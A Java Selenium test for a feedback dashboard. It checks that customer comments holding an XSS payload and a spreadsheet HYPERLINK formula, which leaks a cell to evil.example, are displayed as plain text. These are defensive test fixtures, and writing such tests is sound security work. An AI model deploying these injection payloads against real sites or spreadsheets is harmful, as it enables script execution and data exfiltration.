package app.symmetry.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URL;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;

import jakarta.inject.Inject;

import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.StaleElementReferenceException;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.Select;

import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;

import app.symmetry.aggregation.Aggregator;
import app.symmetry.testing.Answers;
import app.symmetry.testing.Api;

/**
 * Customers' words on the dashboard's comments panel and on the page a team reads together, in a real
 * browser: markup and spreadsheet formulae a customer typed are shown as the characters typed, never run.
 */
@QuarkusTest
class CommentsBrowserTest extends ChromiumTest {

    private static final String UNIT = "saint-denis-basilique";
    private static final String SCRIPT = "<script>window.pwned = 1</script><img src=x onerror=\"window.pwned = 2\">Bof";
    private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Cliquez ici\")";
    private static final String PLAIN = "Très bon accueil de Nadia.";

    @TestHTTPResource("/")
    URL base;

    @Inject
    Aggregator aggregator;

    @Test
    void markupAndFormulaeInCommentsAreShownAsTextOnTheDashboardAndTheTeamPage() {
        List<String> tokens = Api.manager(base)
                .body(Map.of("unitId", UNIT, "kind", "customer", "count", 4))
                .post("/issueLinks")
                .then()
                .statusCode(200)
                .extract()
                .path("links.token");
        List<String> words = List.of(PLAIN, FORMULA, SCRIPT);
        for (int i = 0; i < words.size(); i++) {
            Map<String, Object> answer = Answers.with(Answers.feedback(tokens.get(i)), "comment", words.get(i));
            answer = Answers.with(answer, "recommend", 10 - 4 * i);
            Api.anonymous(base).body(answer).post("/submitFeedback").then().statusCode(200);
        }
        LocalDate today = LocalDate.now(ZoneId.of("Europe/Paris"));
        aggregator.recompute(today, today);
        String month = "MONTH:" + today.toString().substring(0, 7);

        browser.open(base + "dashboard/#key=" + Api.KEY);
        browser.waitFor(By.cssSelector("#content h2"));
        for (int attempt = 0; ; attempt++) {
            try {
                new Select(browser.waitFor(By.id("scope"))).selectByValue("unit:" + UNIT);
                break;
            } catch (StaleElementReferenceException redrawn) {
                if (attempt == 20) {
                    throw redrawn;
                }
            }
        }
        browser.waitForText(By.cssSelector("#content h2"), "Saint-Denis Basilique");
        browser.waitForText(By.id("comments"), "Cliquez ici");
        browser.waitForText(By.id("comments"), "Bof");
        // word for word (the order, newest first to the second, is ListCommentsTest's)
        assertThat(texts(By.cssSelector("#comments .comment-text"))).containsExactlyInAnyOrder(SCRIPT, FORMULA, PLAIN);
        assertThat(browser.driver.findElements(By.cssSelector("#comments script, #comments img")))
                .isEmpty();
        assertThat(browser.driver.executeScript("return window.pwned === undefined"))
                .isEqualTo(true);
        assertThat(browser.driver.findElement(By.id("comments")).getText()).contains("detractor");
        browser.screenshot("dashboard-comments");

        // The page the team reads together, from the dashboard's link.
        browser.click(By.id("team-link"));
        browser.waitFor(By.id("team-title"));
        // the organisation's language: the unit's own first language until the organisation file names one
        assertThat(browser.driver.findElement(By.tagName("html")).getAttribute("lang"))
                .isEqualTo("fr");
        browser.waitForText(By.id("team-title"), "Saint-Denis Basilique");
        String customers = browser.waitFor(By.cssSelector(".sides .side-c")).getText();
        String employees = browser.waitFor(By.cssSelector(".sides .side-e")).getText();
        assertThat(customers).contains("Clients").contains("NPS");
        // the month is open: the snapshot withholds the employee side, and so does the page
        assertThat(employees).contains("Salariés").doesNotContain("eNPS");
        assertThat(browser.driver.findElements(By.cssSelector("#gaps tbody tr")))
                .isNotEmpty();
        assertThat(texts(By.cssSelector("#team-comments .comment-text")))
                .containsExactlyInAnyOrder(SCRIPT, FORMULA, PLAIN);
        assertThat(browser.driver.findElements(By.cssSelector("#team-comments script, #team-comments img")))
                .isEmpty();
        assertThat(browser.driver.executeScript("return window.pwned === undefined"))
                .isEqualTo(true);
        assertThat(browser.driver.findElement(By.id("no-employee-comments")).getText())
                .isNotBlank();
        assertThat(browser.driver.getCurrentUrl()).contains("period=" + month.replace(":", "%3A"));

        // The print stylesheet is loaded, and on paper the buttons and the top bar are gone.
        assertThat(browser.driver.executeScript("return [...document.styleSheets].some(s => s.media"
                        + " && [...s.media].includes('print') && s.cssRules.length > 0)"))
                .isEqualTo(true);
        assertThat(browser.driver.findElement(By.id("print")).isDisplayed()).isTrue();
        browser.driver.executeCdpCommand("Emulation.setEmulatedMedia", Map.of("media", "print"));
        try {
            assertThat(browser.driver.findElement(By.id("print")).isDisplayed()).isFalse();
            assertThat(browser.driver.findElement(By.cssSelector(".topbar")).isDisplayed())
                    .isFalse();
            assertThat(browser.driver.findElement(By.id("team-comments")).isDisplayed())
                    .isTrue();
            browser.screenshot("team-page-print");
        } finally {
            browser.driver.executeCdpCommand("Emulation.setEmulatedMedia", Map.of("media", ""));
        }
    }

    private List<String> texts(By locator) {
        return browser.driver.findElements(locator).stream()
                .map(WebElement::getText)
                .toList();
    }
}
